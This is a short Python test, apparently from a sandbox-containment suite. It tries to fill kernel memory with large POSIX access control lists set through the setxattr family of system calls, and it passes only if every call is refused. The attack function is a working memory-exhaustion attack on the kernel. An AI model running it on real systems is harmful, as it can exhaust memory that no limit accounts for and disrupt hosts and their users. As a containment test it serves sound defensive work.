"""Fill the kernel with access control lists
tries: two lists of 64 KiB on each folder in memory, by every call that sets one; no limit on memory counts them
expect: ENOTSUP EOPNOTSUPP
"""
from attack import *

NAMES = b"system.posix_acl_access", b"system.posix_acl_default"
ANYBODY = 0xFFFFFFFF


def attack():
    import tempfile

    entries = [(1, 7, ANYBODY), *[(2, 7, 1000)] * 8000, *[(tag, 7, ANYBODY) for tag in (4, 16, 32)]]
    text = struct.pack("<I", 2) + b"".join(struct.pack("<HHI", *entry) for entry in entries)
    kept = ctypes.create_string_buffer(text, len(text))
    described = struct.pack("=QII", ctypes.addressof(kept), len(text), 0)
    ways = {
        "setxattr": lambda path, fd, name: call(SYS["setxattr"], path, name, text, len(text), 0),
        "lsetxattr": lambda path, fd, name: call(SYS["lsetxattr"], path, name, text, len(text), 0),
        "fsetxattr": lambda path, fd, name: call(SYS["fsetxattr"], fd, name, text, len(text), 0),
        "setxattrat": lambda path, fd, name: call(SYS["setxattrat"], fd, b"", 0x1000, name, described, 16),
    }
    held = dict.fromkeys(ways, 0)
    with tempfile.TemporaryDirectory() as place:
        for n, way in enumerate(list(ways) * 10):
            path = f"{place}/{n}".encode()
            os.mkdir(path)
            fd = os.open(path, os.O_RDONLY)
            for name in NAMES:
                try:
                    ways[way](path, fd, name)
                    held[way] += len(text)
                except OSError as e:
                    if e.errno not in (errno.EOPNOTSUPP, errno.ENOSYS):  # setxattrat is of Linux 6.13
                        raise
            os.close(fd)
    if not any(held.values()):
        raise Contained("EOPNOTSUPP")
    return ", ".join(f"{way} {size >> 10} KiB" for way, size in held.items())
